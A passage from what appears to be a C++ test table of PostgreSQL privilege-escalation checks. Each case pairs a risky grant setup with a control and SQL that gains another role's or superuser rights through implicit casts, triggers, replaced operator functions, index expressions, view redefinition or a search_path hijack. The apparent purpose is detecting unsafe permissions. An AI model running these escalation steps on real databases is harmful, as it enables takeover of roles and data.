CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.loot (who text); GRANT SELECT, INSERT ON public.loot TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE public.p (a int PRIMARY KEY, b text); INSERT INTO public.p VALUES (1);
ALTER TABLE public.p OWNER TO {r}boss; GRANT ALL ON public.p TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.loot (who text); GRANT SELECT, INSERT ON public.loot TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE public.p (a int PRIMARY KEY, b text); INSERT INTO public.p VALUES (1);
ALTER TABLE public.p OWNER TO {r}boss;
GRANT SELECT, INSERT, UPDATE, DELETE, REFERENCES (b) ON public.p TO {r}app;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; CREATE TYPE s.t AS ENUM ('1');
CREATE FUNCTION s.f(s.t) RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO
public.loot VALUES (current_user); RETURN 1; END $$;
CREATE CAST (s.t AS int) WITH FUNCTION s.f(s.t) AS IMPLICIT;
CREATE TABLE s.c (a s.t REFERENCES public.p); INSERT INTO s.c VALUES ('1');
SELECT 'gained' FROM public.loot WHERE who = '{r}boss' LIMIT 1;
ROLLBACK;)x"},
        {.id = "ESC-REFERENCES",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.loot (who text); GRANT SELECT, INSERT ON public.loot TO PUBLIC;
CREATE TABLE public.p (a int PRIMARY KEY, b int UNIQUE);
INSERT INTO public.p VALUES (1, 1);
ALTER TABLE public.p OWNER TO {r}boss; GRANT REFERENCES (b) ON public.p TO {r}app;
CREATE TABLE public.mine (x int); ALTER TABLE public.mine OWNER TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.loot (who text); GRANT SELECT, INSERT ON public.loot TO PUBLIC;
CREATE TABLE public.p (a int PRIMARY KEY, b int UNIQUE);
INSERT INTO public.p VALUES (1, 1);
ALTER TABLE public.p OWNER TO {r}boss; GRANT REFERENCES (b) ON public.p TO {r}app;
CREATE TABLE public.mine (x int); ALTER TABLE public.mine OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; CREATE TYPE pg_temp.t AS (x int);
CREATE FUNCTION pg_temp.f(pg_temp.t) RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT
INTO public.loot VALUES (current_user); RETURN 1; END $$;
CREATE CAST (pg_temp.t AS int) WITH FUNCTION pg_temp.f(pg_temp.t) AS IMPLICIT;
ALTER TABLE public.mine ADD COLUMN a pg_temp.t REFERENCES public.p (b);
INSERT INTO public.mine (a) VALUES (ROW(1));
SELECT 'gained' FROM public.loot WHERE who = '{r}boss' LIMIT 1;
ROLLBACK;)x"},
        {.id = "ESC-REFERENCES",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.loot (who text); GRANT SELECT, INSERT ON public.loot TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE public.p (a int, b text, PRIMARY KEY (a, b));
INSERT INTO public.p VALUES (1, 'x'); ALTER TABLE public.p OWNER TO {r}boss;
GRANT REFERENCES (b) ON public.p TO {r}app;
GRANT REFERENCES (a) ON public.p TO PUBLIC;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.loot (who text); GRANT SELECT, INSERT ON public.loot TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE public.p (a int, b text, PRIMARY KEY (a, b));
INSERT INTO public.p VALUES (1, 'x'); ALTER TABLE public.p OWNER TO {r}boss;
GRANT REFERENCES (b) ON public.p TO {r}app;
GRANT SELECT (a) ON public.p TO PUBLIC;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN; CREATE TYPE s.t AS (x int);
CREATE FUNCTION s.f(s.t) RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO
public.loot VALUES (current_user); RETURN 1; END $$;
CREATE CAST (s.t AS int) WITH FUNCTION s.f(s.t) AS IMPLICIT;
CREATE TABLE s.c (a s.t, b text, FOREIGN KEY (a, b) REFERENCES public.p);
INSERT INTO s.c VALUES (ROW(1), 'x');
SELECT 'gained' FROM public.loot WHERE who = '{r}boss' LIMIT 1;
ROLLBACK;)x"},
        {.id = "ESC-REPLACEFUNC",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE s.loot (who text); GRANT SELECT, INSERT ON s.loot TO PUBLIC;
CREATE TABLE public.p (a int PRIMARY KEY);
CREATE TABLE public.c (a int REFERENCES public.p ON DELETE SET NULL);
INSERT INTO public.p VALUES (1); INSERT INTO public.c VALUES (1);
GRANT DELETE ON public.p TO {r}app;
GRANT TRIGGER ON public.c TO {r}app; ALTER TABLE public.c OWNER TO {r}boss;
)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE s.loot (who text); GRANT SELECT, INSERT ON s.loot TO PUBLIC;
CREATE TABLE public.p (a int PRIMARY KEY);
CREATE TABLE public.c (a int REFERENCES public.p ON DELETE RESTRICT);
INSERT INTO public.p VALUES (1); INSERT INTO public.c VALUES (1);
GRANT DELETE ON public.p TO {r}app;
GRANT TRIGGER ON public.c TO {r}app; ALTER TABLE public.c OWNER TO {r}boss;
)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE FUNCTION s.f() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO
s.loot VALUES (current_user); RETURN NEW; END $$;
CREATE TRIGGER x BEFORE UPDATE ON public.c FOR EACH ROW EXECUTE FUNCTION s.f();
DELETE FROM public.p;
SELECT 'gained' FROM s.loot WHERE who = '{r}boss' LIMIT 1;
ROLLBACK;)x"},
        {.id = "ESC-REPLACEFUNC",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE s.loot (who text); GRANT SELECT, INSERT ON s.loot TO PUBLIC;
CREATE TYPE public.k AS (x int);
CREATE FUNCTION public.lt(k, k) RETURNS bool LANGUAGE sql AS 'SELECT
($1).x OPERATOR(pg_catalog.<) ($2).x';
CREATE FUNCTION s.eq(k, k) RETURNS bool LANGUAGE sql AS 'SELECT
($1).x OPERATOR(pg_catalog.=) ($2).x';
ALTER FUNCTION s.eq(k, k) OWNER TO {r}app;
CREATE FUNCTION public.cmp(k, k) RETURNS int LANGUAGE sql AS 'SELECT
($1).x OPERATOR(pg_catalog.-) ($2).x';
CREATE OPERATOR public.< (LEFTARG = k, RIGHTARG = k, PROCEDURE = public.lt);
CREATE OPERATOR public.= (LEFTARG = k, RIGHTARG = k, PROCEDURE = s.eq);
CREATE OPERATOR CLASS public.k_ops DEFAULT FOR TYPE k USING btree AS OPERATOR 1
public.<, OPERATOR 3 public.=, FUNCTION 1 public.cmp;
CREATE TABLE public.p (a k PRIMARY KEY);
CREATE TABLE public.c (a k REFERENCES public.p);
INSERT INTO public.p VALUES (ROW(1)::k); GRANT INSERT ON public.c TO {r}app;
ALTER TABLE public.p OWNER TO {r}boss;
)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app;
GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE s.loot (who text); GRANT SELECT, INSERT ON s.loot TO PUBLIC;
CREATE TYPE public.k AS (x int);
CREATE FUNCTION public.lt(k, k) RETURNS bool LANGUAGE sql AS 'SELECT
($1).x OPERATOR(pg_catalog.<) ($2).x';
CREATE FUNCTION s.eq(k, k) RETURNS bool LANGUAGE sql AS 'SELECT
($1).x OPERATOR(pg_catalog.=) ($2).x';
ALTER FUNCTION s.eq(k, k) OWNER TO {r}boss;
CREATE FUNCTION public.cmp(k, k) RETURNS int LANGUAGE sql AS 'SELECT
($1).x OPERATOR(pg_catalog.-) ($2).x';
CREATE OPERATOR public.< (LEFTARG = k, RIGHTARG = k, PROCEDURE = public.lt);
CREATE OPERATOR public.= (LEFTARG = k, RIGHTARG = k, PROCEDURE = s.eq);
CREATE OPERATOR CLASS public.k_ops DEFAULT FOR TYPE k USING btree AS OPERATOR 1
public.<, OPERATOR 3 public.=, FUNCTION 1 public.cmp;
CREATE TABLE public.p (a k PRIMARY KEY);
CREATE TABLE public.c (a k REFERENCES public.p);
INSERT INTO public.p VALUES (ROW(1)::k); GRANT INSERT ON public.c TO {r}app;
ALTER TABLE public.p OWNER TO {r}boss;
)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE OR REPLACE FUNCTION s.eq(k, k) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN
INSERT INTO s.loot VALUES (current_user); RETURN ($1).x OPERATOR(pg_catalog.=) ($2).x; END $$;
INSERT INTO public.c VALUES (ROW(1)::k);
SELECT 'gained' FROM s.loot WHERE who = '{r}boss' LIMIT 1;
ROLLBACK;)x"},
        {.id = "ESC-REPLACEFUNC",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss;
CREATE SCHEMA own AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA own TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.same(int, int) RETURNS bool LANGUAGE sql AS 'SELECT $1 = $2';
CREATE OPERATOR safe.@@@ (LEFTARG = int, RIGHTARG = int, PROCEDURE = safe.same);
CREATE FUNCTION safe.vip() RETURNS bool LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS 'BEGIN RETURN NOT (1 OPERATOR(safe.@@@) 1); END';
ALTER FUNCTION safe.vip() OWNER TO {r}boss;
ALTER SCHEMA safe OWNER TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss;
CREATE SCHEMA own AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA own TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.same(int, int) RETURNS bool LANGUAGE sql AS 'SELECT $1 = $2';
CREATE OPERATOR safe.@@@ (LEFTARG = int, RIGHTARG = int, PROCEDURE = safe.same);
CREATE FUNCTION safe.vip() RETURNS bool LANGUAGE plpgsql SECURITY DEFINER
SET search_path = pg_catalog, pg_temp AS 'BEGIN RETURN NOT (1 OPERATOR(safe.@@@) 1); END';
ALTER FUNCTION safe.vip() OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN;
CREATE FUNCTION own.mine(int, int) RETURNS bool LANGUAGE sql AS $$ SELECT current_user = '{r}boss' $$;
DROP OPERATOR safe.@@@ (int, int);
CREATE OPERATOR safe.@@@ (LEFTARG = int, RIGHTARG = int, PROCEDURE = own.mine);
SELECT 'gained' WHERE NOT safe.vip();
ROLLBACK;)x"},
        {.id = "ESC-REPLACEFUNC",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN BYPASSRLS;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC;
CREATE TABLE s.t AS SELECT 1 AS a; ALTER TABLE s.t OWNER TO {r}app;
CREATE FUNCTION s.steal(int) RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot VALUES (current_user); RETURN 1; END $$;
CREATE FUNCTION s.odd(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM s.steal(1); RETURN 1; END $$;
GRANT SELECT ON s.t TO {r}boss; CREATE FUNCTION s.vip() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT count(*) FROM s.t'; ALTER FUNCTION s.vip() OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN BYPASSRLS;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC;
CREATE TABLE s.t AS SELECT 1 AS a; ALTER TABLE s.t OWNER TO {r}boss;
CREATE FUNCTION s.steal(int) RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot VALUES (current_user); RETURN 1; END $$;
CREATE FUNCTION s.odd(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM s.steal(1); RETURN 1; END $$;
GRANT SELECT ON s.t TO {r}boss; CREATE FUNCTION s.vip() RETURNS bigint LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT count(*) FROM s.t'; ALTER FUNCTION s.vip() OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = "CREATE INDEX x ON s.t ((a + s.odd(1)));",
         .then = "SELECT s.vip(); SELECT 'gained' FROM s.loot WHERE a = '{r}boss' LIMIT 1;",
         .reset = "DROP INDEX IF EXISTS s.x; TRUNCATE s.loot;"},
        {.id = "ESC-REPLACEFUNC",
         .since = 14,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN BYPASSRLS;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC;
CREATE TABLE s.t AS SELECT 1 AS a; ALTER TABLE s.t OWNER TO {r}boss;
CREATE FUNCTION s.steal(int) RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot VALUES (current_user); RETURN 1; END $$;
CREATE FUNCTION s.odd(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM s.steal(1); RETURN 1; END $$;
CREATE FUNCTION s.of_row(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN $1; END';
CREATE TABLE s.u AS SELECT 1 AS a; CREATE STATISTICS s.st ON (s.of_row(a)), a FROM s.u; ALTER TABLE s.u OWNER TO {r}boss;
ALTER FUNCTION s.of_row(int) OWNER TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN BYPASSRLS;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC;
CREATE TABLE s.t AS SELECT 1 AS a; ALTER TABLE s.t OWNER TO {r}boss;
CREATE FUNCTION s.steal(int) RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot VALUES (current_user); RETURN 1; END $$;
CREATE FUNCTION s.odd(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN PERFORM s.steal(1); RETURN 1; END $$;
CREATE FUNCTION s.of_row(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN $1; END';
CREATE TABLE s.u AS SELECT 1 AS a; CREATE STATISTICS s.st ON (s.of_row(a)), a FROM s.u; ALTER TABLE s.u OWNER TO {r}boss;
)x",
         .to = "{r}boss",
         .does =
             R"x(CREATE OR REPLACE FUNCTION s.of_row(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN s.odd(1); END';)x",
         .victim_is = "{r}boss",
         .victim = "ANALYZE s.u;",
         .then = "SELECT 'gained' FROM s.loot WHERE a = '{r}boss' LIMIT 1;",
         .reset =
             R"x(CREATE OR REPLACE FUNCTION s.of_row(int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS 'BEGIN RETURN $1; END'; TRUNCATE s.loot;)x"},
        {.id = "ESC-REPLACEFUNC",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC; CREATE TYPE s.e AS ENUM ('a');
CREATE FUNCTION s.t(text) RETURNS s.e LANGUAGE plpgsql AS $$ BEGIN RETURN 'a'; END $$;
ALTER FUNCTION s.t(text) OWNER TO {r}app; CREATE CAST (text AS s.e) WITH FUNCTION s.t(text);
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.vip(q text) RETURNS bool LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT q::s.e IS NULL';
ALTER FUNCTION safe.vip(text) OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC; CREATE TYPE s.e AS ENUM ('a');
CREATE FUNCTION s.t(text) RETURNS s.e LANGUAGE plpgsql AS $$ BEGIN RETURN 'a'; END $$;
ALTER FUNCTION s.t(text) OWNER TO {r}boss; CREATE CAST (text AS s.e) WITH FUNCTION s.t(text);
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.vip(q text) RETURNS bool LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT q::s.e IS NULL';
ALTER FUNCTION safe.vip(text) OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN;
CREATE OR REPLACE FUNCTION s.t(text) RETURNS s.e LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot VALUES (current_user); RETURN 'a'; END $$;
SELECT safe.vip('a'); SELECT 'gained' FROM s.loot WHERE a = '{r}boss';
ROLLBACK;)x"},
        {.id = "ESC-REPLACEFUNC",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC; CREATE TYPE s.e AS ENUM ('a');
CREATE FUNCTION s.t(text) RETURNS point LANGUAGE plpgsql AS $$ BEGIN RETURN '(1,2)'; END $$;
ALTER FUNCTION s.t(text) OWNER TO {r}app; CREATE CAST (text AS point) WITH FUNCTION s.t(text);
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.vip(q text) RETURNS bool LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT q::point IS NULL';
ALTER FUNCTION safe.vip(text) OWNER TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC;
CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC; GRANT CREATE ON SCHEMA s TO {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT, SELECT ON s.loot TO PUBLIC; CREATE TYPE s.e AS ENUM ('a');
CREATE FUNCTION s.t(text) RETURNS point LANGUAGE plpgsql AS $$ BEGIN RETURN '(1,2)'; END $$;
ALTER FUNCTION s.t(text) OWNER TO {r}boss; CREATE CAST (text AS point) WITH FUNCTION s.t(text);
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.vip(q text) RETURNS bool LANGUAGE sql SECURITY DEFINER SET search_path = pg_catalog, pg_temp AS 'SELECT q::point IS NULL';
ALTER FUNCTION safe.vip(text) OWNER TO {r}boss;)x",
         .to = "{r}boss",
         .does = R"x(BEGIN;
CREATE OR REPLACE FUNCTION s.t(text) RETURNS point LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot VALUES (current_user); RETURN '(1,2)'; END $$;
SELECT safe.vip('(1,2)'); SELECT 'gained' FROM s.loot WHERE a = '{r}boss';
ROLLBACK;)x"},
        {.id = "ESC-VIEWCODE",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
SET ROLE {r}app; CREATE VIEW s.v AS SELECT a FROM s.t; GRANT SELECT ON s.v TO {r}boss;
CREATE VIEW s.v2 AS SELECT a FROM s.t; GRANT SELECT (a) ON s.v2 TO {r}boss;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE TABLE public.secret (a text); INSERT INTO public.secret VALUES ('x');
GRANT SELECT ON public.secret TO {r}boss;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
SET ROLE {r}app;
CREATE TABLE s.loot (a text); GRANT INSERT ON s.loot TO PUBLIC;
CREATE TABLE s.t (a int, b int); INSERT INTO s.t VALUES (1, 1);
CREATE FUNCTION s.steal() RETURNS int LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
RESET ROLE;
SET ROLE {r}app; CREATE VIEW s.v AS SELECT a FROM s.t;)x",
         .to = "{r}boss",
         .does = "CREATE OR REPLACE VIEW s.v AS SELECT a FROM s.t WHERE s.steal() > 0;",
         .victim_is = "{r}boss",
         .victim = "TABLE s.v;",
         .then = "SELECT 'gained' FROM s.loot LIMIT 1;",
         .reset = "CREATE OR REPLACE VIEW s.v AS SELECT a FROM s.t; TRUNCATE s.loot;"},
        {.id = "ESC-DATABASE",
         .since = 12,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC; ALTER DATABASE {db} OWNER TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;)x",
         .to = "superuser",
         .does = R"x(CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
ALTER DATABASE {db} SET search_path = s, pg_catalog;)x",
         .victim_is = "{super}",
         .victim = "SELECT lower('X'::varchar);",
         .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
         .reset = "ALTER ROLE {r}app NOSUPERUSER; ALTER DATABASE {db} RESET search_path; DROP "
                  "FUNCTION IF EXISTS s.lower(varchar);"},
        {.id = "ESC-EXTENSION",
         .since = 13,
         .extension = "hstore",
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE SCHEMA s AUTHORIZATION {r}app; GRANT CREATE ON DATABASE {db} TO {r}app;)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE SCHEMA s AUTHORIZATION {r}app;)x",
         .to = "the scripts of trusted extensions, run as the bootstrap superuser",
         .does = R"x(BEGIN; CREATE EXTENSION hstore SCHEMA s;
SELECT 'gained' FROM pg_proc WHERE proname = 'hstore_in' AND proowner = 10;
ROLLBACK;)x"},
        {.id = "ESC-REPLACEFUNC",
         .since = 12,
         .certain = false,
         .setup = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE s.loot (who text); GRANT SELECT, INSERT ON s.loot TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.run() RETURNS int LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$ BEGIN CREATE TEMP TABLE made (a pg_catalog.int4); RETURN 1; END $$; ALTER FUNCTION safe.run() OWNER TO {r}boss;
CREATE FUNCTION s.e() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'; ALTER FUNCTION s.e() OWNER TO {r}app;
CREATE EVENT TRIGGER watch ON ddl_command_start EXECUTE FUNCTION s.e();)x",
         .without = R"x(CREATE ROLE {r}app LOGIN;
CREATE ROLE {r}boss; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
CREATE SCHEMA s; GRANT CREATE, USAGE ON SCHEMA s TO {r}app; GRANT USAGE ON SCHEMA s TO {r}boss;
CREATE TABLE s.loot (who text); GRANT SELECT, INSERT ON s.loot TO PUBLIC;
CREATE SCHEMA safe; GRANT USAGE ON SCHEMA safe TO PUBLIC;
CREATE FUNCTION safe.run() RETURNS int LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$ BEGIN CREATE TEMP TABLE made (a pg_catalog.int4); RETURN 1; END $$; ALTER FUNCTION safe.run() OWNER TO {r}boss;
CREATE FUNCTION s.e() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'; ALTER FUNCTION s.e() OWNER TO {r}boss;
CREATE EVENT TRIGGER watch ON ddl_command_start EXECUTE FUNCTION s.e();)x",
         .to = "{r}boss",
         .does =
             R"x(BEGIN; CREATE OR REPLACE FUNCTION s.e() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO
s.loot VALUES (current_user); END $$; SELECT safe.run();
